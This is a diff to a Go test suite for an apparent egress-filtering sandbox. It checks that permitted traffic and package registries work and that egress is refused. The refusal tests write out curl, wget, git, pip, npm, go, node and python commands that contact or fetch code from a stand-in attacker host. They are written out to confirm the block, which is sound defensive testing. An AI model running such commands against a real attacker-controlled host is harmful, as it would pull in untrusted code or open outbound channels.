@@ -26,22 +26,21 @@ func testEgressWorks(t *testing.T, s *site) {
 	}
 	const n = 3 << 20
 	for _, host := range []string{egresstest.Origin, egresstest.Second} {
-		r := s.sh(t, fmt.Sprintf(`set -e
-			curl -sS https://%[1]s/bytes/%[2]d | sha256sum
-			curl -sS https://%[1]s/bytes/%[2]d -o /tmp/big
-			curl -sS -H 'Expect: 100-continue' --data-binary @/tmp/big https://%[1]s/upload
-			curl -sS --http2 -o /dev/null -w '%%{http_version}\n' https://%[1]s/
-			curl -sS --http1.1 -o /dev/null -w '%%{http_version}\n' https://%[1]s/
-			node -e 'const c = require("http2").connect("https://%[1]s"); const r = c.request({":path": "/grpc", ":method": "POST"}); r.on("trailers", (t) => { console.log("grpc-status", t["grpc-status"]); c.close() }); r.end("ping"); r.resume()'
-			(curl -sSN https://%[1]s/sse; echo) | { read -r a; read -r b; read -r c; echo "$a, $c"; curl -sS https://%[1]s/sse/go; cat; }
-			node -e 'const w = new WebSocket("wss://%[1]s/ws"); w.onopen = () => w.send("hello"); w.onmessage = (m) => { console.log("ws", m.data); w.close() }; w.onerror = (e) => console.log(e.message)'
-			`, host, n))
-		for _, want := range []string{
-			egresstest.Sum(n) + "  -\n" + egresstest.Sum(n) + "\n2\n1.1\n", "grpc-status 0",
-			"data: event 1, data: event 2", "data: event 3", "ws hello",
-		} {
-			if !strings.Contains(r, want) {
-				t.Errorf("%s: no %q in\n%s", host, want, r)
+		steps := few(s, 2, []struct{ script, want string }{
+			{`curl -sS https://%[1]s/bytes/%[2]d -o /tmp/big https://%[1]s/bytes/%[2]d -o /tmp/again && sha256sum < /tmp/again`, egresstest.Sum(n)},
+			{`curl -sS -H 'Expect: 100-continue' --data-binary @/tmp/big -w '%%{http_version}\n' https://%[1]s/upload`, egresstest.Sum(n) + "\n2\n"},
+			{`curl -sS --http1.1 -o /dev/null -w '%%{http_version}\n' https://%[1]s/`, "1.1\n"},
+			{`node -e 'const c = require("http2").connect("https://%[1]s"); const r = c.request({":path": "/grpc", ":method": "POST"}); r.on("trailers", (t) => { console.log("grpc-status", t["grpc-status"]); c.close() }); r.end("ping"); r.resume()'`, "grpc-status 0"},
+			{`(curl -sSN https://%[1]s/sse; echo) | { read -r a; read -r b; read -r c; echo "$a, $c"; curl -sS https://%[1]s/sse/go; cat; }`, "data: event 1, data: event 2\n\ndata: event 3\n"},
+			{`node -e 'const w = new WebSocket("wss://%[1]s/ws"); w.onopen = () => w.send("hello"); w.onmessage = (m) => { console.log("ws", m.data); w.close() }; w.onerror = (e) => console.log(e.message)'`, "ws hello"},
+		})
+		for _, x := range steps {
+			args := []any{host, n}
+			if !strings.Contains(x.script, "%[2]") {
+				args = args[:1]
+			}
+			if got := s.sh(t, fmt.Sprintf(x.script, args...)); !strings.Contains(got, x.want) {
+				t.Errorf("%s: %s\ngives %q", host, x.script, got)
 			}
 		}
 	}
@@ -61,19 +60,17 @@ func testEgressTools(t *testing.T, s *site) {
 		"python": {`python3 -c 'import urllib.request as u; print(u.urlopen("https://%s/").read().decode())'`, "this is"},
 		"static": {"/tools/plain get https://%s/", "this is"},
 	} {
-		for _, host := range []string{egresstest.Origin, egresstest.Second} {
+		for _, host := range few(s, 1, []string{egresstest.Second, egresstest.Origin}) {
 			if got := s.sh(t, fmt.Sprintf(x.script, host)); !strings.Contains(got, x.want) {
 				t.Errorf("%s of %s: %s", name, host, got)
 			}
 		}
 	}
-	r := s.sh(t, "cd /tmp && rm -rf public && git clone -q https://github.com/"+egresstest.PublicRepository+" && cat public/README")
-	if r != egresstest.GitContent {
-		t.Errorf("git: %s", r)
-	}
-	r = s.sh(t, "cd /tmp && rm -rf public && git clone -q git@github.com:"+egresstest.PublicRepository+".git && cat public/README")
-	if r != egresstest.GitContent {
-		t.Errorf("git over ssh is not rewritten: %s", r)
+	// A remote over ssh is rewritten, so that rules and secrets apply.
+	for _, from := range few(s, 1, []string{"git@github.com:" + egresstest.PublicRepository + ".git", "https://github.com/" + egresstest.PublicRepository, "ssh://git@github.com/" + egresstest.PublicRepository}) {
+		if r := s.sh(t, "cd /tmp && rm -rf public && git clone -q "+from+" public && cat public/README"); r != egresstest.GitContent {
+			t.Errorf("git clone %s: %s", from, r)
+		}
 	}
 }
 
@@ -81,13 +78,12 @@ func testEgressTools(t *testing.T, s *site) {
 func testEgressRegistries(t *testing.T, s *site) {
 	write(t, filepath.Join(s.tools, "go.mod"), "module x\n\ngo 1.20\n\nrequire "+egresstest.GoModule+" v1.0.0\n")
 	write(t, filepath.Join(s.tools, "go.sum"), s.net.Registry.GoSum())
-	write(t, filepath.Join(s.tools, "main.go"), "package main\n\nimport word \""+egresstest.GoModule+"\"\n\nfunc main() { println(word.Word) }\n")
-	for _, f := range []string{"go.mod", "go.sum", "main.go"} {
+	for _, f := range []string{"go.mod", "go.sum"} {
 		defer os.Remove(filepath.Join(s.tools, f))
 	}
 	for _, x := range []struct{ name, user, script string }{
-		{"npm", "", "mkdir -p /tmp/npm && cd /tmp/npm && npm install --loglevel=error " + egresstest.NPMPackage + " && node -p 'require(\"" + egresstest.NPMPackage + "\")'"},
-		{"go", "", "mkdir -p /tmp/go && cd /tmp/go && cp /tools/go.* /tools/main.go . && go mod download && cat $(go list -m -f '{{.Dir}}' " + egresstest.GoModule + ")/word.go"},
+		{"npm", "", "mkdir -p /tmp/npm && cd /tmp/npm && npm install --loglevel=error " + egresstest.NPMPackage + " && cat node_modules/" + egresstest.NPMPackage + "/index.js"},
+		{"go", "", "mkdir -p /tmp/go && cd /tmp/go && cp /tools/go.* . && go mod download && cat ~/go/pkg/mod/" + egresstest.GoModule + "@v1.0.0/word.go"},
 		{"pip", "", "mkdir -p /tmp/pip && cd /tmp/pip && pip download -q --no-deps " + egresstest.PyPIPackage + " && unzip -p *.whl carrel_word.py"},
 		{"apt", "root", `echo 'deb [trusted=yes] http://deb.debian.org/debian bookworm main' > /tmp/sources.list
 			apt="apt-get -q -o Dir::Etc::sourcelist=/tmp/sources.list -o Dir::Etc::sourceparts=/dev/null -o APT::Sandbox::User=root"
@@ -111,13 +107,14 @@ func testEgressRegistries(t *testing.T, s *site) {
 // protocol can carry the reason, the reason is there.
 func testEgressRefusals(t *testing.T, s *site) {
 	const reason = "egress to " + egresstest.Attacker
-	for _, x := range []struct{ name, user, script, want string }{
+	for _, x := range few(s, 5, []struct{ name, user, script, want string }{
+		{"static", "", "/tools/plain get https://" + egresstest.Attacker + "/", "access denied"},
 		{"curl", "", "curl -sS https://" + egresstest.Attacker + "/", "access denied"},
 		{"curl in clear", "", "curl -sS http://" + egresstest.Attacker + "/", reason},
 		{"curl inspected", "", "curl -sS -X DELETE https://registry.npmjs.org/x", "carrel: "},
+		{"git over ssh", "", "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no -o BatchMode=yes' git clone git@" + egresstest.Attacker + ":x /tmp/x", reason},
 		{"wget", "", "wget -q -O - https://" + egresstest.Attacker + "/ || wget -O - http://" + egresstest.Attacker + "/", "403"},
 		{"git", "", "GIT_TERMINAL_PROMPT=0 git clone https://" + egresstest.Attacker + "/x /tmp/x", "denied"},
-		{"git over ssh", "", "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no -o BatchMode=yes' git clone git@" + egresstest.Attacker + ":x /tmp/x", reason},
 		{"pip", "", "pip download --retries 0 --index-url https://" + egresstest.Attacker + "/simple x", "ACCESS_DENIED"},
 		{"npm", "", "npm view --fetch-retries=0 --registry https://" + egresstest.Attacker + "/ x", "access denied"},
 		{"npm in clear", "", "npm view --fetch-retries=0 --registry http://" + egresstest.Attacker + "/ x", reason},
@@ -126,8 +123,7 @@ func testEgressRefusals(t *testing.T, s *site) {
 		{"go", "", "cd /tmp && GOPROXY=https://" + egresstest.Attacker + " GONOSUMDB='*' GOFLAGS=-mod=mod go mod download example.com/x@v1.0.0", "access denied"},
 		{"node", "", `node -e 'fetch("https://` + egresstest.Attacker + `/").catch(e => console.log(e.cause.code))'`, "ACCESS_DENIED"},
 		{"python", "", `python3 -c 'import urllib.request as u; u.urlopen("https://` + egresstest.Attacker + `/")'`, "ACCESS_DENIED"},
-		{"static", "", "/tools/plain get https://" + egresstest.Attacker + "/", "access denied"},
-	} {
+	}) {
 		got := sh(t, s.c, s.guest, x.user, "timeout 60 sh -c '"+strings.ReplaceAll(x.script, "'", `'\''`)+"'")
 		t.Logf("%s: status %d\n%s", x.name, got.status, strings.TrimSpace(got.out))
 		if !strings.Contains(got.out, x.want) {
